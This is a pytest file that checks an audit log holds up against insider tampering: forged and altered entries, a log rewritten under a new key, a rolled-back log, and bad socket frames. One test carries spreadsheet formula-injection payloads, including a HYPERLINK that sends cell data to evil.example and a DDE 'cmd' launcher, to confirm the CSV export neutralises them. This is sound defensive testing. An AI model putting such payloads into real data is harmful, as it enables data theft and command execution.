"""The audit log against insiders (issue 10 #4, #8, #11, #17): a log rewritten under a new key,
an entry appended while the node was stopped, a log cut short, a bad frame through the owner's
socket, a formula in a case text, an oversized justification."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import shutil
import struct
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cruce.audit import (
    AccessEvent,
    Actor,
    AuditLog,
    Justification,
    LogClient,
    LogService,
    Operation,
)
from cruce.cli import app
from cruce.errors import AuditChainBroken, InvalidInput

runner = CliRunner()
ACTOR = Actor("hn_police", "analyst7", "analyst")
WHY = Justification("gangs_organized_crime", "Art. 12", "HN-2026-0042", "cross-border check")


def event(n: int, why: Justification = WHY) -> AccessEvent:
    return AccessEvent(Operation.CONSULTATION, ACTOR, why, record_ids=(f"hn:rec:{n}",),
                       details={"n": n})


def frame(*payloads: bytes) -> bytes:
    body = b"".join(struct.pack(">I", len(p)) + p for p in payloads)
    return struct.pack(">II", len(payloads), len(body)) + body


async def _exchange(path: Path, request: bytes) -> tuple[int, bytes]:
    reader, writer = await asyncio.open_unix_connection(path)
    writer.write(request)
    (code,) = struct.unpack(">q", await asyncio.wait_for(reader.readexactly(8), 30))
    message = b""
    if code < 0:
        (length,) = struct.unpack(">I", await reader.readexactly(4))
        message = await reader.readexactly(length)
    writer.close()
    return code, message


# -- the log's socket owner appends only valid events (#17) ------------------------------------

BAD_FRAMES = {
    "not json": b"\x00\xffnot json at all",
    "json, not an event": b'{"hello":"world"}',
    "an event with a field of the wrong type": event(1).encode().replace(
        b'"record_count":1', b'"record_count":"1"'),
    "an event of an unknown operation": event(1).encode().replace(
        b'"op":"consultation"', b'"op":"rewrite"'),
    "an event not in its canonical form": event(1).encode().replace(b'{"actor"', b'{ "actor"'),
    "an event with an extra field": event(1).encode().replace(b'"v":1}', b'"v":1,"x":0}'),
}


@pytest.mark.parametrize("bad", BAD_FRAMES.values(), ids=BAD_FRAMES.keys())
def test_the_socket_owner_refuses_a_frame_that_is_not_a_valid_event(
    tmp_path: Path, bad: bytes
) -> None:
    log_dir, sock = tmp_path / "n.audit", tmp_path / "a.sock"

    async def run() -> tuple[tuple[int, bytes], int]:
        with AuditLog.open(log_dir) as log:
            async with LogService(log, sock):
                refused = await _exchange(sock, frame(event(0).encode(), bad))
                client = await LogClient.connect(sock)
                index = await client.append_async(event(2))
                await client.aclose()
        return refused, index

    (code, message), index = asyncio.run(run())
    assert code == -1 and b"event 2 of the request is not a valid audit event" in message
    assert index == 0  # nothing of the refused request was logged, not even its good event
    with AuditLog.open(log_dir) as log:
        assert [e.event["details"]["n"] for e in log.iter_events()] == [2]


# -- CSV export neutralises formulas (#8) ------------------------------------------------------

def test_a_formula_in_a_case_text_is_neutralised_in_the_csv_export(tmp_path: Path) -> None:
    from cruce import Node

    db = str(tmp_path / "n.duckdb")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with Node.open(db, agency="hn_police") as node:
        assert node.audit is not None
        node.audit.append(event(0, Justification("gangs_organized_crime", "+cmd|' /C calc'!A0",
                                                 "-2+3", hostile)))
    result = runner.invoke(app, ["audit", "export", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = [r for r in csv.DictReader(io.StringIO(result.output)) if "calc" in r["legal_basis"]]
    assert row["text"] == "'" + hostile
    assert row["legal_basis"] == "'+cmd|' /C calc'!A0"
    assert row["case_reference"] == "'-2+3"
    for cell in (c for r in csv.reader(io.StringIO(result.output)) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# -- every stored justification is bounded (#11) -----------------------------------------------

def test_a_justification_beyond_its_bounds_is_refused_before_it_is_logged() -> None:
    with pytest.raises(InvalidInput, match="justification text of 60000 characters"):
        Justification("gangs_organized_crime", "", "HN-1", "x" * 60_000)
    with pytest.raises(InvalidInput, match="case reference of 65 characters"):
        Justification("gangs_organized_crime", "", "C" * 65, "")
    Justification("gangs_organized_crime", "", "C" * 64, "x" * 2000)  # at the bounds: fine


def test_an_event_with_an_oversized_justification_is_refused_by_the_socket_owner(
    tmp_path: Path,
) -> None:
    big = json.loads(event(0).encode())
    big["justification"]["text"] = "x" * 60_000
    payload = json.dumps(big, sort_keys=True, separators=(",", ":")).encode()

    async def run() -> tuple[int, bytes]:
        with AuditLog.open(tmp_path / "n.audit") as log:
            async with LogService(log, tmp_path / "a.sock"):
                return await _exchange(tmp_path / "a.sock", frame(payload))

    code, message = asyncio.run(run())
    assert code == -1 and b"justification text of 60000 characters" in message


# -- an entry appended outside the log's writer is never signed in (#8) ------------------------

def record(payload: bytes) -> bytes:
    """A well-formed entries.log record, as the writer would frame it."""
    return struct.pack(">I32s", len(payload), hashlib.sha256(b"\x00" + payload).digest()) + payload


def test_a_well_formed_entry_appended_while_the_node_was_stopped_is_refused_at_start(
    tmp_path: Path,
) -> None:
    from cruce import Node

    db = str(tmp_path / "n.duckdb")
    Node.open(db, agency="hn_police").close()
    entries = tmp_path / "n.duckdb.audit" / "entries.log"
    forged = event(99, Justification("gangs_organized_crime", "", "HN-1", "never happened"))
    with entries.open("ab") as fh:
        fh.write(record(forged.encode()))
    before = entries.read_bytes()
    with pytest.raises(AuditChainBroken, match="after its writer closed it"):
        Node.open(db)
    result = runner.invoke(app, ["audit", "head", "--db", db])
    assert result.exit_code == 1
    assert result.output.startswith("Error: audit log entry ") and result.output.count("\n") == 1
    assert entries.read_bytes() == before  # left as evidence, nothing signed


def test_a_journal_rewritten_to_cover_a_foreign_entry_is_refused(tmp_path: Path) -> None:
    log_dir = tmp_path / "n.audit"
    with AuditLog.open(log_dir) as log:
        log.append(event(0))
    journal = log_dir / "writer.journal"
    data = bytearray(journal.read_bytes())
    data[16] = 1  # "open": as if the writer had crashed after writing the foreign entry
    journal.write_bytes(bytes(data))
    with (log_dir / "entries.log").open("ab") as fh:
        fh.write(record(event(1).encode()))
    with pytest.raises(AuditChainBroken, match="writer.journal of the audit log was not written"):
        AuditLog.open(log_dir)


def test_after_a_crash_a_foreign_entry_is_set_aside_not_signed(tmp_path: Path) -> None:
    live, image = tmp_path / "live.audit", tmp_path / "image.audit"
    with AuditLog.open(live, head_interval=3600) as log:
        log.append(event(0))
        log.sign_head()
        log.append(event(1))  # acknowledged, not yet under a head: the writer's own
        shutil.copytree(live, image, ignore=shutil.ignore_patterns("lock"))
    foreign = record(event(2).encode())
    with (image / "entries.log").open("ab") as fh:
        fh.write(foreign)
    with AuditLog.open(image) as log:
        assert [e.event["details"]["n"] for e in log.iter_events()] == [0, 1]
        assert log.head().tree_size == 2
    (side,) = image.glob("entries.torn-*.bin")
    assert side.read_bytes() == foreign


def test_an_unsigned_entry_altered_in_place_is_refused_at_start(tmp_path: Path) -> None:
    live, image = tmp_path / "live.audit", tmp_path / "image.audit"
    with AuditLog.open(live, head_interval=3600) as log:
        log.append(event(0))
        log.sign_head()
        log.append(event(1))
        original = record(log.entry(1).raw)
        shutil.copytree(live, image, ignore=shutil.ignore_patterns("lock"))
    entries = image / "entries.log"
    data = entries.read_bytes()
    assert data.endswith(original)
    altered = original[36:].replace(b"hn:rec:1", b"hn:rec:7")
    entries.write_bytes(data[: -len(original)] + record(altered))  # same length, new checksum
    with pytest.raises(AuditChainBroken, match="do not hash to what the writer journaled"):
        AuditLog.open(image)


# -- verify trusts the key pinned in the node's store, not the one beside the log (#8) --------

@pytest.fixture()
def node_db(tmp_path: Path) -> str:
    """A node whose log holds two consultations, closed."""
    from cruce import Node

    db = str(tmp_path / "n.duckdb")
    with Node.open(db, agency="hn_police") as node:
        assert node.audit is not None
        node.audit.append_many([event(0), event(1)])
    return db


def rewrite_under_a_new_key(log_dir: Path) -> None:
    """An insider replaces the whole log: new key, new entries, consistent tree and heads."""
    shutil.rmtree(log_dir)
    with AuditLog.open(log_dir) as log:
        log.append(event(7, Justification("gangs_organized_crime", "", "HN-9", "harmless")))


def test_a_log_rewritten_under_a_new_key_does_not_verify_by_default(node_db: str) -> None:
    log_dir = Path(node_db + ".audit")
    rewrite_under_a_new_key(log_dir)
    result = runner.invoke(app, ["audit", "verify", "--db", node_db])
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: audit log heads: the log is signed with another key "
                                    "than the one pinned in the node's store")
    assert result.output.count("\n") == 1


def test_a_node_refuses_to_open_a_log_rewritten_under_a_new_key(node_db: str) -> None:
    from cruce import Node

    rewrite_under_a_new_key(Path(node_db + ".audit"))
    with pytest.raises(AuditChainBroken, match="another key than the one pinned"):
        Node.open(node_db)


def test_verify_of_a_bare_log_folder_needs_the_published_key(node_db: str, tmp_path: Path) -> None:
    copy = tmp_path / "copy.audit"
    shutil.copytree(node_db + ".audit", copy, ignore=shutil.ignore_patterns("lock"))
    result = runner.invoke(app, ["audit", "verify", "--log", str(copy)])
    assert result.exit_code == 2
    assert result.output.startswith("Error: cannot verify: no published key for this log")
    published = tmp_path / "published.pem"
    published.write_bytes((copy / "log-key.pub.pem").read_bytes())  # as the node published it
    result = runner.invoke(app, ["audit", "verify", "--log", str(copy),
                                 "--public-key", str(published)])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("ok: 2 entries")


def test_an_intact_log_verifies_against_its_pinned_key(node_db: str) -> None:
    result = runner.invoke(app, ["audit", "verify", "--db", node_db])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("ok: 2 entries") and "key pinned in the node's store" in result.output


# -- a log cut back to an earlier, consistent state is caught locally (#4) ---------------------

def test_a_log_cut_back_to_an_earlier_consistent_copy_is_caught_locally(
    node_db: str, tmp_path: Path
) -> None:
    from cruce import Node

    log_dir = Path(node_db + ".audit")
    earlier = tmp_path / "earlier.audit"
    shutil.copytree(log_dir, earlier, ignore=shutil.ignore_patterns("lock"))
    with Node.open(node_db) as node:
        assert node.audit is not None
        node.audit.append(event(2, Justification("gangs_organized_crime", "", "HN-5", "to hide")))
    shutil.rmtree(log_dir)
    shutil.copytree(earlier, log_dir)  # every file of the log as it was: tree and heads agree
    result = runner.invoke(app, ["audit", "verify", "--db", node_db])
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: audit log entry 2: missing: the node's store pinned "
                                    "3 signed entries when its log was last closed, the log has 2")
    with pytest.raises(AuditChainBroken, match="the node's store pinned 3 signed entries"):
        Node.open(node_db)
